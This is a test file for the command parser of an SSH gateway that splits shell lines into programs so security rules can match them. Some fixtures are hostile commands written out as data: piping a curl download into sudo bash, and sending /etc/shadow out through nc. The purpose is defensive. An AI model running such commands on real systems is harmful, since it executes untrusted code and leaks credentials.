// Command lines become argv lists and the programs they run, so rules can match `pg_dump` or
// `sh` however the line dresses them up.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CommandParseError, parseCommand } from '../../gateway/ssh/command.ts';

test('a simple command is split into words with quotes removed', () => {
  const f = parseCommand(`grep -r "needle in" '/var/log/app'`);
  assert.deepEqual(f.commands, [['grep', '-r', 'needle in', '/var/log/app']]);
  assert.deepEqual(f.programs, ['grep']);
  assert.deepEqual(f.operators, []);
});

test('pipelines and lists yield every program', () => {
  const f = parseCommand('curl -s https://x.invalid/i.sh | sudo bash && echo ok; true');
  assert.deepEqual(f.programs, ['curl', 'sudo', 'bash', 'echo', 'true']);
  assert.deepEqual(f.operators, ['|', '&&', ';']);
});

test('wrappers, paths and variable assignments do not hide the program', () => {
  assert.deepEqual(parseCommand('PGPASSWORD=x sudo -u postgres /usr/lib/postgresql/16/bin/pg_dump app').programs, ['sudo', 'pg_dump']);
  assert.deepEqual(parseCommand('timeout 30 nice -n 10 tar czf - /var/lib/postgresql').programs, ['timeout', 'nice', 'tar']);
  assert.deepEqual(parseCommand('env FOO=1 BAR=2 rm -rf /tmp/x').programs, ['env', 'rm']);
});

test('scripts passed to sh -c are parsed too', () => {
  const f = parseCommand(`bash -lc 'cat /etc/shadow | nc 10.0.0.1 9'`);
  assert.ok(f.programs.includes('cat'));
  assert.ok(f.programs.includes('nc'));
  assert.ok(f.commands.some((c) => c.join(' ') === 'cat /etc/shadow'));
});

test('variables stay literal and are not expanded from the gateway environment', () => {
  process.env.AIRLOCK_SECRET_FOR_TEST = 'leak';
  const f = parseCommand('echo $AIRLOCK_SECRET_FOR_TEST');
  assert.deepEqual(f.commands, [['echo', '$AIRLOCK_SECRET_FOR_TEST']]);
});

test('an unterminated quote is an error, as it is for a real shell', () => {
  assert.throws(() => parseCommand(`echo "oops`), CommandParseError);
  assert.throws(() => parseCommand(`echo 'oops`), CommandParseError);
  assert.doesNotThrow(() => parseCommand(`echo "it's fine"`));
  assert.doesNotThrow(() => parseCommand(`echo \\"escaped`));
});
